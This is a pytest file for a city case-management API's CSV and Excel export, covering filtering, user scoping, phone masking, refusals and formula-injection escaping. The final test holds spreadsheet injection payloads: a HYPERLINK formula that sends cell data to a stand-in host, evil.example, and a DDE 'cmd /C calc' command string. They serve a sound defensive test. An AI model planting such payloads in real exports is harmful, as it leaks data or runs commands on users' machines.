"""CSV and Excel exports: they open, hold the filtered rows in scope, and mask phones."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from .conftest import LITTER, OTHER_GRID, City


def _cases(city: City) -> tuple[dict[str, object], dict[str, object]]:
    a = city.create()
    b = city.create(
        category_code=LITTER, title="暴露垃圾", description="垃圾", area_code=OTHER_GRID
    )
    return a, b


def test_csv_export(city: City) -> None:
    a, b = _cases(city)
    r = city.client.get("/api/v1/cases/export", params={"format": "csv"}, headers=city.auth("op"))
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][0] == "案件编号"
    assert sorted(row[0] for row in rows[1:]) == sorted([a["number"], b["number"]])
    phone = rows[0].index("联系电话")
    assert {row[phone] for row in rows[1:]} == {"138****5678"}


def test_xlsx_export_with_filter(city: City) -> None:
    _a, b = _cases(city)
    r = city.client.get(
        "/api/v1/cases/export",
        params={"format": "xlsx", "category": LITTER},
        headers=city.auth("disp"),
    )
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content), read_only=True)["cases"]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0][:2] == ["案件编号", "来源"]
    assert [row[0] for row in rows[1:]] == [b["number"]]


def test_export_is_scoped(city: City) -> None:
    _cases(city)
    r = city.client.get("/api/v1/cases/export", headers=city.auth("insp"))
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) == 2  # header + the one case in the inspector's street


@pytest.mark.parametrize(("user", "status"), [("cit", 403), ("op", 422)])
def test_export_refusals(city: City, user: str, status: int) -> None:
    params = {"format": "pdf"} if user == "op" else {}
    r = city.client.get("/api/v1/cases/export", params=params, headers=city.auth(user))
    assert r.status_code == status


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.mark.parametrize(
    ("title", "address"),
    [(FORMULA, "@SUM(1+1)"), ("+1+cmd|' /C calc'!A0", "-2+3")],
)
def test_exports_never_hold_formulas(city: City, title: str, address: str) -> None:
    case = city.create(title=title, address=address)
    r = city.client.get("/api/v1/cases/export", params={"format": "csv"}, headers=city.auth("op"))
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    got = dict(zip(rows[0], rows[1], strict=True))
    assert got["标题"] == "'" + title
    assert got["地址"] == "'" + address
    assert got["案件编号"] == case["number"]  # ordinary text is left alone

    r = city.client.get("/api/v1/cases/export", params={"format": "xlsx"}, headers=city.auth("op"))
    sheet = load_workbook(io.BytesIO(r.content))["cases"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [cell.value for cell in cells]
    assert title in values  # the text itself, kept as a string cell
    assert address in values
